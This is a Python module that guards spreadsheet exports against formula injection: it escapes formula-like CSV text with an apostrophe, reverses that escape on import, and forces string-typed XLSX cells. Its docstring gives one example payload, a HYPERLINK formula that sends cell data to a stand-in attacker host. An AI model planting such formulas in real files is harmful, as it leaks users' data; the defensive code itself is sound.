"""Spreadsheet cells that stay text: the one defence against formula injection.

Registry text (project names, notes, units) is typed by many people and downloaded by every
role. A cell beginning with = + - @ (or a tab or carriage return, which some programs skip
before reading a formula) would become a live formula in Excel or WPS, e.g.
`=HYPERLINK("http://evil.example/?x="&A1,"click")`. Every CSV and XLSX the product writes
passes its values through `neutralise`:

- CSV: such text gets a leading apostrophe (the OWASP rule); spreadsheet programs show the
  text and never evaluate it. `restore_csv_text` undoes it on import, so export -> import
  round-trips exactly; text that already starts with apostrophes before such a character
  gets one more, so the undo is unambiguous.
- XLSX: such text becomes a cell typed as a string: never a formula, shown as written.
"""

from __future__ import annotations

import re
from typing import Any

_FORMULA_LIKE = re.compile(r"'*[=+\-@\t\r]")


def formula_like(text: str) -> bool:
    """True for text a spreadsheet program could read as a formula (after apostrophes)."""
    return _FORMULA_LIKE.match(text) is not None


def neutralise(value: Any, sheet: Any = None) -> Any:
    """The value as a spreadsheet writer must write it.

    Without `sheet` (CSV): formula-like text prefixed with an apostrophe, other values as
    they are. With an openpyxl write-only `sheet` (XLSX): formula-like text as a cell of
    type string, other values as they are."""
    if not isinstance(value, str) or not formula_like(value):
        return value
    if sheet is None:
        return "'" + value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl types text starting with "=" as a formula otherwise
    return cell


def restore_csv_text(text: str) -> str:
    """Undo `neutralise` for one CSV cell read back in."""
    if text.startswith("'") and formula_like(text[1:]):
        return text[1:]
    return text
